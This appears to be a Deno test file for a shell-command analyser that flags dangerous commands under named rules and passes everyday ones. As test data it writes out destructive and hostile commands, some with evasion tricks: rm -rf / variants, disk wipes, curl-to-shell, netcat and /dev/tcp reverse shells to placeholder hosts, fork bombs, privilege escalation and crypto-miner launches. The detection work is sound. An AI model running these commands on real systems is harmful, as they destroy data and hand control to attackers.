import { assertEquals } from "@std/assert";

import { analyseCommand } from "../../../../../runtime/programs/shell/analyse_command.ts";
import { RULE_NAMES } from "../../../../../runtime/programs/shell/judge/broken_rules.ts";
import { listed } from "../../../../support/listed.ts";

type Written = string | readonly string[];

/** A list is a program with its arguments, a text is a script for a shell. */
async function rulesFor(written: Written): Promise<readonly string[]> {
  const command = typeof written === "string" ? { script: written, shell: "bash" } : { argv: written };
  return (await analyseCommand(command)).rules;
}

/** Splits at blanks, as a caller without a shell would. */
const argv = (text: string): string[] => text.split(" ");

/** The same of all commands of some lines, which `, ` separates. */
const argvs = (...lines: string[]): string[][] => listed(...lines).map(argv);

const CAUGHT: Record<string, readonly Written[]> = {
  "rm-rf-root": [
    ...argvs(
      "rm -rf /, rm -fr /, rm -r -f /, rm -rf -- /, rm -Rf /, rm --recursive --force /",
      "rm --rec --for /, rm -rf --no-preserve-root /, rm -rf /*, rm -rf //, rm -rf /./, rm -rf /tmp/..",
      "/bin/rm -rf /, rm / -rf, env A=1 rm -rf /, nice -n 5 timeout -k 1 9 rm -rf /, xargs rm -rf /",
      "find . -exec rm -rf / ;, busybox rm -rf /",
    ),
    ["bash", "-c", "rm -rf /"],
    ["sh", "-ec", "echo hi; rm -rf /"],
    ["bash", "--norc", "-lc", "true && rm -rf /"],
    "rm -rf /",
    "rm -rf /*",
    'r""m -rf "/"',
    ...listed(
      "X=rm; $X -rf /, cd / && rm -rf *, (cd /tmp; rm -rf /), if true; then rm -rf /; fi",
      "for i in 1; do rm -rf /; done, f() { rm -rf /; }; f, echo $(rm -rf /), echo rm -rf / | sh",
      "bash <<< 'rm -rf /'",
    ),
    "bash <<'END'\nrm -rf /\nEND\n",
    ...listed("eval 'rm -rf /', trap 'rm -rf /' EXIT, alias ll='rm -rf'; ll /, nohup rm -rf / &"),
    "\\rm -rf /",
    "rm -rf {/,x}",
    "$'\\x72m' -rf /",
    "rm${IFS}-rf${IFS}/",
  ],
  "rm-rf-home": [
    ...argvs("rm -rf ~, rm -fr ~, rm -rf ~/, rm -rf ~/*, rm -rf ~root, rm -rf $HOME"),
    'rm -rf "$HOME"',
    'rm -rf "${HOME}"/',
    "rm -rf $HOME/*",
    "cd; rm -rf *",
  ],
  "dd-zero-disk": [
    ...argvs(
      "dd if=/dev/zero of=/dev/sda, dd of=/dev/hda, dd of=/dev/nvme0n1, dd of=/dev/vda1 bs=1M",
      "dd of=/dev/mmcblk0, dd of=/dev/xvda, dd of=/dev/loop0, dd of=/dev/disk/by-id/x",
      "dd of=/dev/mapper/root, dd of=/dev//sda, cp image /dev/sdb, tee /dev/sda",
    ),
    "cat image > /dev/sda",
  ],
  mkfs: argvs("mkfs.ext4 /dev/sda, mkfs /dev/sda, mke2fs x, mkswap x, wipefs -a x, blkdiscard x"),
  fdisk: argvs("fdisk /dev/sda, sfdisk x, parted x, sgdisk -Z x, /sbin/fdisk -l"),
  shutdown: argvs("shutdown now, poweroff, systemctl poweroff, /sbin/shutdown -h now"),
  reboot: argvs("reboot, systemctl reboot, init 6"),
  halt: argvs("halt, systemctl halt"),
  "init-0": argvs("init 0, init 6, telinit 0"),
  sudo: [
    ...argvs("sudo ls, /usr/bin/sudo x, env sudo x"),
    ["bash", "-c", "sudo x"],
    ["sudo"],
    "sudo -nu root ls",
  ],
  "su-dash": argvs("su -, su - root, su root, su, su -c ls"),
  doas: argvs("doas ls, pkexec ls, run0 ls"),
  "curl-pipe-sh": [
    ...listed(
      'sh -c "$(curl u)", bash <<< "$(curl u)", eval "$(curl u)", $(curl u), python3 <(curl u)',
    ),
    ["bash", "-c", "curl u | sh"],
    ...listed(
      "curl u | sh, curl -fsSL https://x/i.sh | bash -s -- --yes, curl u | sudo bash",
      "curl u | tee f | sh, curl u | python3, curl u | python3 -, curl u | perl, curl u > >(sh)",
      "curl u | { bash; }, curl u | xargs -I{} sh -c {}, bash <(curl u), bash < <(curl u)",
      "source <(curl u)",
    ),
    "curl u\\\n| sh",
  ],
  "wget-pipe-sh": ["wget -qO- u | sh", "bash <(wget -qO- u)", 'sh -c "$(wget -qO- u)"', "wget -O - u | perl"],
  "nc-exec": argvs(
    "nc -e /bin/sh h 1, ncat -e /bin/sh h 1, nc -lvp 1 -e /bin/sh, nc -c sh h 1",
    "ncat --exec /bin/sh h 1, socat TCP:h:1 EXEC:sh",
  ),
  "bash-reverse": [
    argv("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "exec 3<>/dev/udp/10.0.0.1/53",
    'echo x > "/dev/tcp/$H/80"',
    "cat < /dev/tcp/h/1",
  ],
  "fork-bomb": [
    ":(){ :|:& };:",
    ":(){:|:&};:",
    ["bash", "-c", ":(){ :|:& };:"],
    [":(){:|:&};:"],
    "f() { f | f & }; f",
    "bomb() {\n  bomb &\n  bomb &\n}\nbomb",
  ],
  "chmod-777-root": argvs(
    "chmod 777 /, chmod -R 777 /, chmod 0777 /, chmod a+rwx /, chmod --recursive 777 /, chmod +rwx /",
    "chmod -R 777 /*",
  ),
  "chmod-suid": argvs(
    "chmod 4755 /usr/local/bin/x, chmod u+s x, chmod g+s x, chmod 2755 x, chmod 6755 x",
    "chmod a+x,u+s x, install -m 4755 a b",
  ),
  "chown-recursive": argvs(
    "chown -R root /, chown -R me:me /etc, chown --recursive root /srv, chown -hR root ~",
    "chown -R me ../other",
  ),
  "bash-eval": [
    ...[argv("eval $X"), ["eval", "$(curl u)"], ["bash", "-c", 'eval "$X"']],
    ...['eval "$X"', "eval $X", "eval '$X'", 'eval "$(printf "%s" ls)"'],
  ],
  "backtick-subst": [["bash", "-c", "`id`"], "`curl u`", "eval `id`", 'sh -c "`id`"', "`echo rm` x"],
  "dollar-paren": [["bash", "-c", "$(id)"], "$(curl u)", 'eval "$(id)"', 'sh -c "$(id)"', "$(echo rm) x"],
  "mount-bind": argvs(
    "mount --bind a b, mount -o bind a b, mount -o ro,bind a b, mount -B a b, mount --rbind a b",
  ),
  "umount-force": argvs("umount -f x, umount -lf x, umount --force x"),
  xmrig: [argv("xmrig -o pool"), argv("./xmrig"), "nohup ./xmrig &"],
  minerd: argvs("minerd -a x, cpuminer x, ./ethminer x"),
  "stratum-tcp": argvs("./m -o stratum+tcp://pool:1, ./m -o stratum+ssl://pool:1"),
  "kill-init": argvs(
    "kill -9 1, kill -KILL 1, kill -SIGKILL 1, kill -s 9 1, kill -s KILL 1, kill -9 -1, kill -9 7 1",
  ),
  "pkill-broad": argvs("pkill -9 -f x, pkill -f -9 x, pkill -KILL -f x"),
  "killall-broad": argvs("killall -9 x, killall -KILL x, killall -s 9 x"),
};

Deno.test("analyseCommand() names the rule that forbids a command", async () => {
  assertEquals(Object.keys(CAUGHT).sort(), [...RULE_NAMES].sort());
  for (const [rule, commands] of Object.entries(CAUGHT)) {
    for (const written of commands) {
      const rules = await rulesFor(written);
      assertEquals(rules.includes(rule), true, `${rule}: ${JSON.stringify(written)} gave ${rules}`);
    }
  }
});

Deno.test("analyseCommand() lists several rules in the order of the table", async () => {
  assertEquals(
    await rulesFor("sudo rm -rf / ~; shutdown now"),
    ["rm-rf-root", "rm-rf-home", "shutdown", "sudo"],
  );
});

Deno.test("analyseCommand() looks for rules in a typed line without minding errors", async () => {
  const broken = await analyseCommand({ script: "rm -rf / 'unfinished", shell: "bash", typed: true });
  assertEquals(broken.rules, ["rm-rf-root"]);
  assertEquals((await analyseCommand({ script: "it's fine", shell: "bash", typed: true })).opaque, []);
});

const PASSED: readonly Written[] = [
  ...[
    ...listed(
      "rm -rf /tmp/x, rm -rf build, rm -rf ./~, rm /, cat mkfs.md, grep fdisk notes, cat shutdown.md",
      "pytest tests/test_reboot.py, git init 0abc, cat doasis.txt, rsync -e ssh a b, grep /dev/tcp/ f",
      "chmod 777 /tmp/x, chmod 755 /usr/local/bin/x, chmod 644 /x, chmod 1777 d, chown -R me ./build",
      "chown -R me build, grep foo$ f, grep xmrig f, grep minerd f, kill -9 1234, kill -9 12",
      "kill -1 77, git rm build/, echo rm -rf build/, ls -la, chmod 644 file.txt, chown user file.txt",
      "mount dev dir, mount -o ro dev dir, umount dir, umount -l dir, kill -TERM 1, pkill node",
      "pkill -f node, killall node, eval x, echo hello, bash -c, ls /dev, cat /etc/passwd",
      "dd if=/dev/sda of=disk.img, nc -vz host 80, echo ~, curl u | sh",
    ),
  ].map(argv),
  ["git", "commit", "-m", "fix asphalt"],
  ["git", "commit", "-m", "use `code` and $(spans) in messages"],
  ["awk", "{print $1}", "f"],
  ["grep", "foo$", "f"],
  ["grep", ":(){ :|:& };:", "f"],
  ...listed(
    "curl u | jq .shape, curl u | python3 -m json.tool, curl u | python3 -c 'import sys'",
    "curl u > f.sh, echo $(date), echo `date`",
  ),
  'x=$(git rev-parse HEAD); echo "$x"',
  ...listed("grep 'su ' f; echo sudo, node -e 'process.env.X', eval 'echo hello', $CC -o x x.c"),
  'walk() { for f in "$1"/*; do walk "$f"; done; }; walk .',
  "echo ':(){ :|:& };:'",
  'rm -rf "$TMP"/x',
];

Deno.test("analyseCommand() finds no rule in everyday commands", async () => {
  for (const written of PASSED) assertEquals(await rulesFor(written), [], JSON.stringify(written));
});
